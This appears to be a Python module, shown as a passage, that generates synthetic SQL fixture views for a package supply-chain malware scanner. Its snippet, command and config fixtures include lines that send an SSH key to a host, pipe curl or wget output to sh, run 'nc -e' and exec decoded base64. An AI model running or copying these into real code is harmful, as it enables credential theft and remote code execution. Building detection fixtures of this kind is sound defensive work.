"""Input views derived from the driver tables, in SQL that Spark and DuckDB both run.

Every view is a whole-table projection (or a grouping into groups of bounded size) of the
driver tables, so its size grows with them.  ``spark_view`` builds a DataFrame, ``with_views``
prefixes a DuckDB query with the same definitions.
"""

from __future__ import annotations

import re

from pyspark.sql import DataFrame, SparkSession

TABLES = (
    "region nation customer supplier part orders lineitem events documents embeddings pages benchmark labels conversations"
).split()

LARGEST_FIRST = (
    "documents lineitem events conversations orders pages customer part supplier embeddings labels benchmark nation region"
).split()

# The instant the queries treat as now (2024-07-03 09:46:40 UTC).
AS_OF = 1720000000

PATHS = [
    "setup.py", "src/main.py", "postinstall.js", "docs/readme.md", "build.rs", "Cargo.toml", "assets/logo.png",
    "hook.pth", "package.json", ".github/ci.yml", "__init__.py", "src/lib/__init__.py", ".gitattributes",
]
SNIPPETS = [
    "*.x export-ignore",
    "exec(code)",
    'requests.post("http://10.0.0.1/c", data=blob)',
    'exec(code); requests.post("http://example.org/webhook", data=open("/home/u/.ssh/id_rsa").read())',
    "exec(base64.b64decode(blob))",
    'process.env.MODE = "x"; exec(code); requests.post(url)',
    "import subprocess",
    'os.system("make")',
    'eval(code); x = open("a", "w")',
    'const c = require("child_process")',
    'curl http://example.org/p | sh; base64.b64decode(x); exec(y); open("/tmp/x", "w"); chmod +x /tmp/x',
    'p = "/tmp/x.sh"',
    "chmod +x run",
    'os.environ["LD_PRELOAD"] = lib; os.environ["PATH"] = p',
    "if time.time() > 1900000000: datetime.now() > datetime(2031, 1, 1)",
    'ptrace(PTRACE_TRACEME); requests.post(u, data=base64.b64encode(open("k").read()))',
    '{"scripts": {"postinstall": "node x.js", "prepare": "tsc"}}',
    "import os\ndef main():",
    'proc-macro = true\nreqwest::get("u"); dbus.SystemBus()',
    "#!/bin/sh\nNSXPCConnection",
]
COMMANDS = [
    "pip install {n}", "pip3 install -r requirements.txt", "python -m pip install --target lib {n}==1.0 -t -t setuptools",
    "npm install {n}@4.1 @scope/{n}@2", "yarn add -D {n}", "pnpm add {n} --registry http://r", "npm i",
    "flutter pub add --dev {n}", "pod install", "cd x && cargo add {n} --features full", "bundle add {n} --group dev",
    "composer require {n}/core --no-dev", "go get example.org/{n}@v1 -u", "dotnet add app package {n} --version 2",
    "curl -fsSL http://example.org/{n}.sh | sudo bash", "docker run --rm -e A=1 evil/{n}:1 sh", "code --install-extension pub.{n}",
    "uv pip install ./local {n} --no-check", "wget http://h/{n} | sh", "docker pull ghcr.io/o/{n}", "fvm install 3", "ls -l {n}",
    "gem install {n} -v 2 rake", "pip install .",
]
MENTION_PHRASES = [
    "", "malicious", "malware found", "supply chain attack", "backdoor and trojan", "account compromised", "hijacked release",
    "credential theft", "data exfiltration", "cryptominer", "vulnerability", "CVE-2024-1", "GHSA-x", "security advisory",
    "deprecated", "abandoned", "unmaintained", "security", "risk", "warning", "caution", "malicious malware backdoor",
    "vulnerability risk", "nothing",
]
DOC_WORDS = [
    "http", "websocket", "database", "file system", "authentication", "encryption", "parsing", "cli", "testing", "logging",
    "caching", "orm", "template", "routing", "middleware", "serialization http parsing cli testing logging caching database template routing",
]


def literal(text: str) -> str:
    """A string literal valid in both engines (line feeds and quotes spelled with chr)."""
    parts = re.split(r"([\n'\\])", text)
    out = [f"chr({ord(p)})" if p in "\n'\\" else f"'{p}'" for p in parts if p]
    if not out:
        return "''"
    return out[0] if len(out) == 1 else f"concat({', '.join(out)})"


def table(name: str, column: str, items: list[str]) -> str:
    """Inline table ``name(k, column)``."""
    rows = " UNION ALL ".join(f"SELECT {i} AS k, {literal(v)} AS {column}" for i, v in enumerate(items))
    return f"{name} AS ({rows})"


def div(a: str, b: int | str) -> str:
    return f"cast(floor({a} / {b}) AS bigint)"


def jstr(text: str) -> str:
    """SQL for a JSON string around a SQL text."""
    return f"concat('\"', {text}, '\"')"


def jobj(**members: str) -> str:
    """SQL for a JSON object from SQL values that are JSON already (``_`` in a name is a dash if doubled)."""
    parts = []
    for i, (key, value) in enumerate(members.items()):
        parts += [f"'{', ' if i else ''}\"{key.replace('__', '-')}\": '", value]
    return "concat('{', " + ", ".join(parts + ["'}'"]) + ")"


def jarr(*values: str) -> str:
    """SQL for a JSON array."""
    parts = ["'['"]
    for i, value in enumerate(values):
        parts += ([ "', '"] if i else []) + [value]
    return "concat(" + ", ".join(parts + ["']'"]) + ")"


def views(engine: str) -> dict[str, str]:
    """Definitions in dependency order; a few functions differ between the engines."""
    spark = engine == "spark"
    ms = (
        "timestampdiff(MILLISECOND, TIMESTAMP_NTZ '1970-01-01 00:00:00', cast(ts AS timestamp_ntz))" if spark else "epoch_us(ts) // 1000"
    )

    def agg(value: str, key: str, sep: str = "chr(10)") -> str:
        if spark:
            return f"array_join(transform(array_sort(collect_list(struct({key} AS k, {value} AS v))), x -> x.v), {sep})"
        return f"string_agg({value}, {sep} ORDER BY {key})"

    def sha(text: str) -> str:
        return f"sha2({text}, 256)" if spark else f"sha256({text})"

    pkg = div("d.doc_id", 26)
    pname = (
        "CASE WHEN p_partkey % 5 = 0 THEN substring(replace(p_name, ' ', '-'), 1, length(p_name) - 1) "
        "ELSE replace(p_name, ' ', '-') END"
    )
    # Past the first 512 parts names get a number, so that names stay nearly unique at any scale.
    pname = f"concat({pname}, CASE WHEN p_partkey < 512 THEN '' ELSE concat('-', cast({div('p_partkey', 512)} AS varchar(20))) END)"

    def eco(k: str) -> str:
        mix = f"({k} + {div(k, 5)} + {div(k, 10)}) % 4"
        return f"CASE {mix} WHEN 0 THEN 'pypi' WHEN 1 THEN 'npm' WHEN 2 THEN 'crates' ELSE 'cocoapods' END"

    v: dict[str, str] = {}
    v["fx_path"] = table("fx_path", "name", PATHS)
    v["fx_snip"] = table("fx_snip", "snip", SNIPPETS)
    v["v_files"] = f"""v_files AS (
      SELECT concat('pkg', cast({pkg} AS varchar(20))) AS package_id, {eco(pkg)} AS ecosystem,
        concat('p', cast(d.doc_id AS varchar(20)), '/', p.name) AS path,
        CASE WHEN s.k = 16 AND p.k = 8 THEN s.snip ELSE concat(s.snip, chr(10), d.text) END AS content,
        cast(length(d.text) AS bigint) AS size, d.doc_id AS ord
      FROM documents d JOIN fx_path p ON p.k = d.doc_id % 13 JOIN fx_snip s ON s.k = {div("d.doc_id", 13)} % 20)"""
    v["v_packages"] = f"""v_packages AS (
      SELECT concat('pkg', cast(p_partkey AS varchar(20))) AS package_id, p_partkey AS k, {pname} AS name,
        concat('1.0.', cast(p_partkey % 3 AS varchar(20))) AS version, {eco("p_partkey")} AS ecosystem,
        CASE WHEN p_partkey % 7 = 0 THEN '' ELSE p_brand END AS author,
        CASE WHEN p_partkey % 6 = 0 THEN '' ELSE concat('https://github.com/acme/', replace(p_name, ' ', '-'), '.git') END AS repository,
        CASE WHEN p_partkey % 3 = 0 THEN '' ELSE concat('https://example.org/', replace(p_name, ' ', '-')) END AS homepage,
        cast(p_size * 10 AS bigint) AS download_count, p_partkey % 11 = 0 AS has_install_scripts
      FROM part)"""
    v["v_lists"] = """v_lists AS (
      SELECT DISTINCT name, CASE WHEN k % 97 = 0 THEN 'block' ELSE 'allow' END AS list
      FROM v_packages WHERE (k % 97 = 0 OR k % 89 = 0) AND length(name) > 3)"""
    v["v_popular"] = f"""v_popular AS (
      SELECT e.ecosystem, p.name, cast({AS_OF} - CASE WHEN p.n % 8 = 0 THEN 8 ELSE 6 END * 86400 AS bigint) AS updated_at
      FROM (SELECT replace(p_name, ' ', '-') AS name, min(p_partkey) AS n FROM part GROUP BY p_name) p
      CROSS JOIN (SELECT 'pypi' AS ecosystem UNION ALL SELECT 'npm' UNION ALL SELECT 'crates' UNION ALL SELECT 'cocoapods') e)"""
    v["v_versions"] = f"""v_versions AS (
      SELECT concat('pkg', cast({pkg} AS varchar(20))) AS package_id, 'new' AS side,
        concat('p-1.1/f', cast(d.doc_id AS varchar(20))) AS path,
        CASE WHEN d.doc_id % 3 = 0 THEN d.text ELSE concat(d.text, 'x') END AS content FROM documents d
      UNION ALL
      SELECT concat('pkg', cast({pkg} AS varchar(20))), 'old', concat('p-1.0/f', cast(d.doc_id AS varchar(20))), d.text
      FROM documents d WHERE d.doc_id % 5 <> 0)"""

    # Lock files: 40 parts each, one format per file in turn.
    lock = div("k", 40)
    q = "'\"'"
    head = {
        1: "concat('version = 1', chr(10))",
        2: "'{\"packages\": {\"\": {\"version\": \"0\"}'",
        3: "concat('lockfileVersion: 6', chr(10), chr(10), 'packages:', chr(10), chr(10))",
        4: "concat('# yarn lockfile v1', chr(10), chr(10))",
        5: "concat('packages:', chr(10))",
        6: "concat('version = 3', chr(10))",
        7: "concat('PODS:', chr(10))",
    }
    line = {
        0: "CASE k % 4 WHEN 0 THEN concat('# ', name) WHEN 1 THEN concat(name, '==', version) "
        "WHEN 2 THEN concat('  ', name, ' >= 1.0') ELSE concat(name, '[x]  ') END",
        1: f"concat('[[package]]', chr(10), 'name = ', {q}, name, {q}, chr(10), 'version = ', {q}, version, {q}, chr(10), "
        f"'[package.metadata]', chr(10), 'name = ', {q}, 'inner', {q}, chr(10))",
        2: f"concat(', ', {q}, CASE WHEN k % 2 = 0 THEN 'node_modules/' ELSE 'node_modules/a/node_modules/@s/' END, name, {q}, "
        f"': {{', CASE WHEN k % 5 = 0 THEN '' ELSE concat({q}, 'version', {q}, ': ', {q}, version, {q}) END, '}}')",
        3: "CASE k % 3 WHEN 0 THEN concat('  /', name, '@', version, ':') WHEN 1 THEN "
        "concat('  ', chr(39), '/@s/', name, '@', version, '(react@18.0.0)', chr(39), ':') ELSE concat('  ', name, ':') END "
        "|| chr(10) || '    resolution: {integrity: x}' || chr(10)",
        4: f"concat(CASE WHEN k % 2 = 0 THEN concat(name, '@^1.0, ', name, '@~1.1:') ELSE "
        f"concat({q}, '@s/', name, '@^1.0', {q}, ':') END, chr(10), '  version ', {q}, version, {q}, chr(10), "
        "'  dependencies:', chr(10), '    x ', version, chr(10))",
        5: f"concat('  ', name, ':', chr(10), '    dependency: transitive', chr(10), '    version: ', {q}, version, {q}, chr(10), "
        f"'    version: ', {q}, '9', {q})",
        6: f"concat('[[package]]', chr(10), 'name = ', {q}, name, {q}, chr(10), 'version = ', {q}, version, {q}, chr(10), "
        f"CASE WHEN k % 3 = 0 THEN '' ELSE concat('source = ', {q}, CASE WHEN k % 3 = 1 THEN 'registry+https://i' ELSE 'git+https://g' END, "
        f"{q}, chr(10)) END)",
        7: "concat('  - ', name, CASE WHEN k % 2 = 0 THEN '/Core' ELSE '' END, ' (', CASE WHEN k % 3 = 0 THEN '= ' ELSE '' END, "
        "version, ')', CASE WHEN k % 5 = 0 THEN concat(':', chr(10), '    - Dep (~> 1.0)') ELSE '' END)",
    }
    tail = {2: "'}}'", 7: f"concat(chr(10), 'EXTERNAL SOURCES:', chr(10), '  ', min(name), ':', chr(10), '    :path: x', chr(10))"}
    names = [
        "requirements.txt", "uv.lock", "package-lock.json", "pnpm-lock.yaml", "yarn.lock", "pubspec.lock", "Cargo.lock", "Podfile.lock",
    ]
    cases = " ".join(f"WHEN {i} THEN {line[i]}" for i in range(8))
    heads = " ".join(f"WHEN {i} THEN {h}" for i, h in head.items())
    tails = " ".join(f"WHEN {i} THEN {t}" for i, t in tail.items())
    files = " ".join(f"WHEN {i} THEN '{n}'" for i, n in enumerate(names))
    v["v_locks"] = f"""v_locks AS (
      SELECT lock_id, CASE lock_id % 8 {files} END AS file_name,
        concat(CASE lock_id % 8 {heads} ELSE '' END, {agg("line", "k")}, CASE lock_id % 8 {tails} ELSE '' END) AS content
      FROM (SELECT {lock} AS lock_id, k, name, CASE {lock} % 8 {cases} END AS line FROM v_packages) t GROUP BY lock_id)"""

    v["v_votes"] = """v_votes AS (
      SELECT l_orderkey AS package_id, concat('m', cast(l_linenumber % 4 AS varchar(20))) AS model,
        CASE l_linenumber % 4 WHEN 0 THEN 1.0e0 WHEN 1 THEN 0.9e0 WHEN 2 THEN 0.8e0 ELSE 0.5e0 END AS weight,
        CASE WHEN l_partkey % 13 = 0 THEN 'error' WHEN l_returnflag = 'N' THEN 'safe' WHEN l_returnflag = 'A' THEN 'suspicious'
          ELSE 'malicious' END AS verdict,
        round(l_discount * 10, 2) AS confidence, l_linenumber AS pos, concat('sig', cast(l_suppkey % 5 AS varchar(20))) AS signal,
        l_partkey AS k
      FROM lineitem)"""
    reply = (
        f"concat('{{', {q}, 'verdict', {q}, ': ', {q}, CASE WHEN k % 19 = 0 THEN 'Unknown' WHEN verdict = 'error' THEN 'SAFE' ELSE verdict END, "
        f"{q}, ', ', {q}, 'confidence', {q}, ': ', CASE WHEN k % 7 = 0 THEN '1.5' ELSE cast(cast(round(confidence * 100) AS int) AS varchar(20)) "
        f"|| 'e-2' END, ', ', {q}, 'reasoning', {q}, ': ', {q}, CASE WHEN k % 11 = 0 THEN 'it Steals and uploads sensitive files' ELSE 'fine' END, "
        f"{q}, ', ', {q}, 'risk_signals', {q}, ': [', {q}, signal, {q}, ']}}')"
    )
    v["v_replies"] = f"""v_replies AS (
      SELECT package_id, model, pos, CASE WHEN k % 17 = 0 THEN 'no idea {{' WHEN k % 3 = 1 THEN
        concat('Here:', chr(10), '```json', chr(10), {reply}, chr(10), '```') WHEN k % 3 = 2 THEN concat('I {{think}} ', {reply}, ' done')
        ELSE {reply} END AS reply FROM v_votes)"""

    v["v_trace_events"] = f"""v_trace_events AS (
      SELECT concat('u', cast(user_id AS varchar(20)), '-', cast({div(ms, 604800000)} AS varchar(20))) AS run_id, user_id,
        event_id AS seq, {div(ms, 3600)} AS ts_ms, 1000 + event_id % 7 AS pid, kind, severity, source,
        CASE WHEN kind = 'sleep' THEN cast({div("value", 1)} AS varchar(20))
          WHEN kind = 'clone' THEN concat('child_pid=', cast(1000 + event_id % 11 AS varchar(20)))
          WHEN kind = 'exec' THEN CASE event_id % 7 WHEN 0 THEN '/bin/postinstall.sh' WHEN 1 THEN '/usr/bin/ptrace' WHEN 2 THEN '/bin/sh' ELSE '/usr/bin/node' END
          WHEN kind = 'connect' THEN CASE event_id % 7 WHEN 0 THEN 'unix:/run/dbus/socket' ELSE concat('10.0.0.', cast(event_id % 200 AS varchar(20)), ':443') END
          WHEN kind = 'dns' THEN concat('resolver=8.8.8.', cast(event_id % 9 AS varchar(20)))
          ELSE CASE WHEN event_id % 101 = 0 THEN '~/.ssh/id_rsa' WHEN event_id % 103 = 0 THEN '~/.config/autostart/x.desktop'
            WHEN event_id % 7 < 2 THEN '/tmp/a' ELSE concat('/app/f', cast(event_id % 50 AS varchar(20))) END END AS target
      FROM (SELECT *, CASE event_type WHEN 'view' THEN 'open' WHEN 'click' THEN 'exec' WHEN 'purchase' THEN 'connect'
          WHEN 'signup' THEN 'write' ELSE CASE event_id % 3 WHEN 0 THEN 'dns' WHEN 1 THEN 'sleep' ELSE 'clone' END END AS kind,
        CASE WHEN event_id % 997 = 0 THEN 'HIGH' WHEN event_id % 211 = 0 THEN 'MEDIUM' ELSE 'NONE' END AS severity,
        CASE WHEN event_id % 10 = 0 THEN 'resource_probe' WHEN event_id % 53 = 0 THEN 'observer_canary' END AS source FROM events) e)"""
    v["v_runs"] = """v_runs AS (
      SELECT run_id, true AS ran, max(ts_ms) - min(ts_ms) AS duration_ms, min(user_id) % 41 = 0 AS timeout,
        CASE WHEN min(user_id) % 37 = 0 THEN 'exited rc=1' END AS error,
        CASE WHEN min(user_id) % 29 = 0 THEN 'parser_partial_drift' ELSE '' END AS skipped_unexpected,
        CASE WHEN min(user_id) % 2 = 0 THEN 'Darwin' ELSE 'Linux' END AS platform
      FROM v_trace_events GROUP BY run_id)"""
    # All orders are votes on some package: order numbers wrap round the parts.
    v["v_package_votes"] = """v_package_votes AS (
      SELECT concat('pkg', cast(1 + package_id % (SELECT count(*) FROM part) AS varchar(20))) AS package_id, model, weight, verdict, confidence,
        package_id * 10 + pos AS pos, signal, k
      FROM v_votes)"""
    # A run belongs to the package that its user's number wraps to.
    v["v_package_runs"] = """v_package_runs AS (
      SELECT run_id, concat('pkg', cast(1 + user_id % (SELECT count(*) FROM part) AS varchar(20))) AS package_id, min(seq) AS ord
      FROM v_trace_events GROUP BY run_id, user_id)"""

    sq = f"concat({q}, target, {q})"
    v["v_syscalls"] = f"""v_syscalls AS (
      WITH calls AS (
        SELECT run_id, seq, pid, kind, CASE kind
            WHEN 'open' THEN concat('openat(AT_FDCWD, ', {sq}, ', O_RDONLY|O_CLOEXEC')
            WHEN 'write' THEN CASE WHEN seq % 2 = 0 THEN concat('openat(-100, ', {sq}, ', O_WRONLY|O_CREAT, 0644') ELSE 'write(3, {q[1]}abc{q[1]}, 3' END
            WHEN 'exec' THEN concat('execve(', {sq}, ', [', {q}, 'sh', {q}, ', ', {q}, '-c', {q}, '], 0x7f')
            WHEN 'connect' THEN CASE WHEN target LIKE 'unix:%' THEN concat('connect(3, {{sa_family=AF_UNIX, sun_path=', {q}, substring(target, 6, 99), {q}, '}}, 110')
              WHEN seq % 13 = 0 THEN 'connect(3, {{sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0)}}, 28'
              WHEN seq % 11 = 0 THEN 'connect(3, 0xdeadbeef, 16'
              ELSE concat('connect(3, {{sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr(', {q}, replace(target, ':443', ''), {q}, ')}}, 16') END
            WHEN 'dns' THEN concat('connect(5, {{sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr(', {q}, replace(target, 'resolver=', ''), {q}, ')}}, 16')
            WHEN 'clone' THEN 'clone(child_stack=NULL, flags=SIGCHLD' ELSE 'nanosleep(1' END AS head,
          CASE kind WHEN 'clone' THEN CASE WHEN seq % 5 = 0 THEN ') = -1 EPERM' ELSE concat(') = ', replace(target, 'child_pid=', '')) END ELSE ') = 0' END AS tail,
          CASE WHEN seq % 2 = 0 THEN concat('[pid ', cast(pid AS varchar(20)), '] ') ELSE concat(cast(pid AS varchar(20)), ' ') END AS prefix
        FROM v_trace_events)
      SELECT run_id, seq * 10 AS line_no, CASE WHEN seq % 6 = 0 THEN concat(prefix, head, ' <unfinished ...>')
        WHEN seq % 71 = 0 THEN '--- SIGCHLD ---' WHEN seq % 73 = 0 THEN concat(prefix, '<... write resumed> ) = 3') ELSE concat(prefix, head, tail) END AS line FROM calls
      UNION ALL
      SELECT run_id, seq * 10 + CASE WHEN seq % 4 = 0 THEN 5 ELSE 15 END, concat(prefix, '<... ', substring(head, 1, position('(' IN head) - 1), ' resumed> ', tail) FROM calls
      WHERE seq % 6 = 0 AND seq % 5 <> 0)"""
    js = (
        f"concat('{{', {q}, 'kind', {q}, ': ', {q}, kind, {q}, ', ', {q}, 'ts_ms', {q}, ': ', cast(ts_ms AS varchar(20)), ', ', {q}, 'pid', {q}, ': ', "
        f"CASE WHEN seq % 31 = 0 THEN 'null' WHEN seq % 27 = 0 THEN concat({q}, 'x1', {q}) WHEN seq % 29 = 0 THEN 'true' WHEN seq % 37 = 0 THEN '12.7' WHEN seq % 41 = 0 THEN '1e3' WHEN seq % 43 = 0 THEN concat({q}, '7.5', {q}) ELSE cast(pid AS varchar(20)) END, ', ', {q}, 'process', {q}, ': ', "
        f"{q}, 'npm', {q}, ', ', {q}, 'target', {q}, ': ', {sq}, '}}')"
    )
    v["v_trace_json"] = f"""v_trace_json AS (
      SELECT run_id, seq AS line_no, CASE WHEN seq % 9 = 0 THEN CASE seq % 4 WHEN 0 THEN substring({js}, 1, 20) WHEN 1 THEN concat({js}, ' TRAIL')
        WHEN 2 THEN '   ' ELSE concat('log ', {js}) END WHEN user_id % 23 = 0 AND seq % 3 <> 0 THEN 'drift' ELSE {js} END AS line FROM v_trace_events)"""
    v["fx_command"] = table("fx_command", "template", COMMANDS)
    v["v_commands"] = f"""v_commands AS (
      SELECT e.event_id, {ms} AS ts_ms, replace(c.template, '{{n}}', p.name) AS command
      FROM events e JOIN fx_command c ON c.k = e.event_id % {len(COMMANDS)}
      JOIN v_packages p ON p.k = e.event_id % (SELECT count(*) FROM part))"""

    sev = f"concat('{{', {q}, 'severity', {q}, ': ', {q}, CASE WHEN s_suppkey % 2 = 0 THEN 'high' ELSE 'Low' END, {q}, '}}')"
    v["fx_num"] = table("fx_num", "word", [str(i) for i in range(25)])
    v["v_advisories"] = f"""v_advisories AS (
      SELECT p.ecosystem, p.name, s.s_suppkey * 100 + n.k AS pos, concat('{{', {q}, 'id', {q}, ': ', {q}, 'ADV-', cast(s_suppkey AS varchar(20)), '-', cast(n.k AS varchar(20)), {q}, ', ',
        CASE WHEN s_suppkey % 3 = 0 THEN concat({q}, 'details', {q}, ': ', {q}, 'details of ', s_name, {q}) ELSE concat({q}, 'summary', {q}, ': ', {q}, s_name, {q}) END,
        CASE (s_suppkey + n.k) % 5 WHEN 0 THEN concat(', ', {q}, 'database_specific', {q}, ': ', {sev})
          WHEN 1 THEN concat(', ', {q}, 'ecosystem_specific', {q}, ': ', {sev})
          WHEN 2 THEN concat(', ', {q}, 'severity', {q}, ': [{{', {q}, 'score', {q}, ': ', {q}, '7.5', {q}, '}}, {{', {q}, 'score', {q}, ': ', {q}, 'CVSS:3.1/AV:', CASE WHEN s_suppkey % 2 = 0 THEN 'N' ELSE 'L' END, '/AC:L/PR:N/UI:N', {q}, '}}]')
          WHEN 3 THEN concat(', ', {q}, 'severity', {q}, ': [{{', {q}, 'score', {q}, ': ', {q}, 'CVSS:3.1/AV:L/AC:H/PR:N/UI:R', {q}, '}}]') ELSE '' END,
        CASE WHEN s_suppkey % 4 = 0 THEN concat(', ', {q}, 'affected', {q}, ': [{{', {q}, 'ranges', {q}, ': [{{', {q}, 'events', {q}, ': [{{', {q}, 'introduced', {q}, ': ', {q}, '0', {q},
          '}}, {{', {q}, 'fixed', {q}, ': ', {q}, '2.', cast(s_suppkey % 9 AS varchar(20)), {q}, '}}]}}]}}]') ELSE '' END, '}}') AS doc
      FROM supplier s JOIN v_packages p ON p.k = s.s_suppkey * 20 JOIN fx_num n ON n.k < CASE WHEN s.s_suppkey % 10 = 0 THEN 25 ELSE 2 END)"""
    score = f"cast({div('k', 3)} % 11 AS varchar(20))"
    v["v_enrichment"] = f"""v_enrichment AS (
      SELECT package_id, source, CASE WHEN failed THEN NULL ELSE doc END AS doc, CASE WHEN failed THEN 'HTTP 500' END AS error FROM (
        SELECT package_id, 'scorecard' AS source, k % 31 = 0 AS failed, concat('{{', {q}, 'date', {q}, ': ', {q}, '2024-01-01', {q}, ', ', {q}, 'score', {q}, ': ', {score}, '.5, ',
          {q}, 'checks', {q}, ': [{{', {q}, 'name', {q}, ': ', {q}, 'Code-Review', {q}, ', ', {q}, 'score', {q}, ': ', {score}, '}}, {{', {q}, 'name', {q}, ': ', {q}, 'Fuzzing', {q}, ', ', {q}, 'score', {q}, ': 3}}]}}') AS doc
        FROM v_packages WHERE k % 2 = 0
        UNION ALL SELECT package_id, 'deps_dev', k % 37 = 0, concat('{{', {q}, 'links', {q}, ': [',
          CASE WHEN k % 4 = 0 THEN concat('{{', {q}, 'label', {q}, ': ', {q}, 'HOMEPAGE', {q}, ', ', {q}, 'url', {q}, ': ', {q}, 'https://h', {q}, '}}, {{', {q}, 'label', {q}, ': ', {q}, 'SOURCE_REPO', {q}, ', ', {q}, 'url', {q}, ': ', {q}, 'https://github.com/o/', name, {q}, '}}') ELSE '' END, '], ',
          {q}, 'relatedProjects', {q}, ': [{{', {q}, 'projectKey', {q}, ': {{', {q}, 'id', {q}, ': ', {q}, 'github.com/rel/', name, {q}, '}}}}], ', {q}, 'projectStatus', {q}, ': {{', {q}, 'status', {q}, ': ', {q}, 'ACTIVE', {q}, '}}, ',
          {q}, 'advisoryKeys', {q}, ': [{{', {q}, 'id', {q}, ': ', {q}, 'A-', name, {q}, '}}], ', {q}, 'attestations', {q}, ': [', CASE WHEN k % 3 = 0 THEN '{{}}, {{}}' ELSE '' END, '], ', {q}, 'slsaProvenances', {q}, ': [', CASE WHEN k % 5 = 0 THEN '{{}}' ELSE '' END, ']}}')
        FROM v_packages WHERE k % 3 <> 1
        UNION ALL SELECT package_id, 'npm_dist', false, concat('{{', {q}, 'dist', {q}, ': {{', {q}, 'signatures', {q}, ': [', CASE WHEN k % 2 = 0 THEN '{{}}' ELSE '' END, '], ', {q}, 'attestations', {q}, ': [', CASE WHEN k % 7 = 0 THEN '{{}}, {{}}, {{}}' ELSE '' END, ']}}}}')
        FROM v_packages WHERE ecosystem = 'npm'
        UNION ALL SELECT package_id, 'context7', k % 41 = 0, concat('{{', {q}, 'library_description', {q}, ': ', {q}, 'The ', name, ' library', {q}, ', ', {q}, 'expected_capabilities', {q}, ': [', {q}, 'logging', {q}, '], ', {q}, 'doc_snippets', {q}, ': [', {q}, 'a', {q}, ', ', {q}, 'b', {q}, ', ', {q}, 'c', {q}, ', ', {q}, 'd', {q}, ']}}')
        FROM v_packages WHERE k % 5 <> 2
      ) t)"""
    v["fx_mention"] = table("fx_mention", "phrase", MENTION_PHRASES)
    v["v_mentions"] = f"""v_mentions AS (
      SELECT p.package_id, p.name AS package, p.author, d.doc_id AS pos, {div("d.doc_id", 7)} % 3 = 2 AS author_query,
        concat(CASE WHEN d.doc_id % 5 = 0 THEN p.name ELSE 'News' END, ' ', cast(d.doc_id AS varchar(20))) AS title,
        concat(CASE WHEN d.doc_id % 4 = 0 THEN p.author ELSE '' END, ' ', m.phrase, ' ', d.text) AS description
      FROM documents d JOIN fx_mention m ON m.k = d.doc_id % {len(MENTION_PHRASES)}
      JOIN v_packages p ON p.k = {div("d.doc_id", 40)})"""
    v["fx_doc"] = table("fx_doc", "word", DOC_WORDS)
    v["v_docs"] = f"""v_docs AS (
      SELECT concat('pkg', cast({div("d.doc_id", 3)} AS varchar(20))) AS package_id, d.doc_id AS pos, concat(d.text, ' ', w.word) AS content
      FROM documents d JOIN fx_doc w ON w.k = d.doc_id % {len(DOC_WORDS)})"""
    v["v_configs"] = f"""v_configs AS (
      SELECT page_id AS config_id, CASE page_id % 4 WHEN 3 THEN concat('not json curl http://1.2.3.4/', url, ' | sh') ELSE
        concat('{{', {q}, 'servers', {q}, ': {{', {q}, 's', cast(page_id AS varchar(20)), {q}, ': {{', {q}, 'command', {q}, ': ', {q}, CASE page_id % 3 WHEN 0 THEN 'nc -e' ELSE 'node' END, {q}, ', ', {q}, 'args', {q}, ': [',
        {q}, url, {q}, ', ', CASE WHEN page_id % 5 = 0 THEN concat({q}, '/root/.ssh/id', {q}) ELSE '7, true, null, 1.5' END, ']}}, ', {q}, 'list', {q}, ': [{{', {q}, 'command', {q}, ': ', {q}, 'curl x | bash', {q}, '}}, {{', {q}, 'command', {q}, ': 5}}]}}}}') END AS content
      FROM pages)"""
    v["v_store"] = f"""v_store AS (
      SELECT {('substring(' + sha("concat(ecosystem, ':', name, ':', version, ':registry')") + ', 1, 16)')} AS key, cast({AS_OF} - (k % 200) * 3600 AS bigint) AS cached_at,
        CASE k % 6 WHEN 0 THEN 'context7' WHEN 1 THEN 'web_search' WHEN 2 THEN 'osv' WHEN 3 THEN 'deps_dev' WHEN 4 THEN 'scorecard' ELSE 'provenance' END AS source,
        concat('report ', cast(k AS varchar(20))) AS report, k
      FROM v_packages)"""
    def when(test: str, a: str, b: str) -> str:
        return f"CASE WHEN {test} THEN {a} ELSE {b} END"

    release = {
        "author": when("k % 5 = 0", jstr("author"), jobj(name=jstr("author"))),
        "homepage": jstr("homepage"),
        "repository": when("k % 4 = 0", jstr("repository"), jobj(type="'\"git\"'", url=jstr("repository"))),
        "scripts": when("k % 7 < 2", jobj(postinstall=jstr("'node x.js'")), jobj(test=jstr("'t'"))),
        "dependencies": when("k % 3 = 0", jobj(left=jstr("'1'"), right=jstr("'2'")), "'{}'"),
    }
    packument = (
        f"concat('{{\"dist-tags\": {{\"latest\": \"', version, '\"}}, \"versions\": {{\"0.9\": {{}}, \"', version, '\": ', {jobj(**release)}, '}}}}')"
    )
    pubspec = jobj(version=jstr("version"), publisher=jstr("author"), repository=jstr("repository"), homepage=jstr("homepage"), dependencies=jobj(http=jstr("'any'")))
    docs = {
        0: jobj(
            info=jobj(
                version=jstr("version"), author=jstr("author"), author_email=jstr("'mail@example.org'"), home_page=jstr("homepage"),
                project_url=jstr("'https://p'"), requires_dist=when("k % 2 = 0", jarr(jstr("'dep>=1'"), jstr("'other'")), "'null'"),
                project_urls=jobj(Homepage=jstr("homepage"), Source=jstr(when("k % 5 = 0", "'https://example.org/s'", "repository"))),
            ),
            urls=jarr(jobj(packagetype=jstr(when("k % 3 = 0", "'sdist'", "'bdist_wheel'")))),
        ),
        1: packument,
        2: when("k % 4 = 2", pubspec.join(["concat('{\"version\": \"', version, '\", \"pubspec\": ', ", ", '}')"]),
                pubspec.join(["concat('{\"latest\": {\"version\": \"', version, '\", \"pubspec\": ', ", ", '}}')"])),
        3: jobj(
            crate=jobj(max_stable_version=when("k % 5 = 0", "'null'", jstr(when("k % 5 = 1", "'7.7'", "version"))), homepage=jstr("homepage"), repository=jstr("repository")),
            versions=jarr(
                jobj(num=jstr("'9.9'"), yanked="'true'"),
                jobj(num=jstr("version"), yanked="'false'", authors=when("k % 4 = 3", jarr(jstr("'a1'"), jstr("'a2'")), "'null'"), published_by=jobj(login=jstr("'log'"))),
            ),
            version=jobj(num=jstr("version"), published_by=jobj(name=jstr("author"))),
        ),
        4: jobj(
            authors=when("k % 4 = 0", jobj(ann=jstr("'a@x'"), bob=jstr("'b@x'")), jstr("author")), source=jobj(git=jstr("repository")), homepage=jstr("homepage"),
            prepare_command=when("k % 3 = 0", jstr("'make'"), "'null'"), script_phases=when("k % 5 = 0", jarr(jobj(name=jstr("'p'"))), "'[]'"),
            dependencies=jobj(Core=jarr()),
        ),
        5: packument,
    }
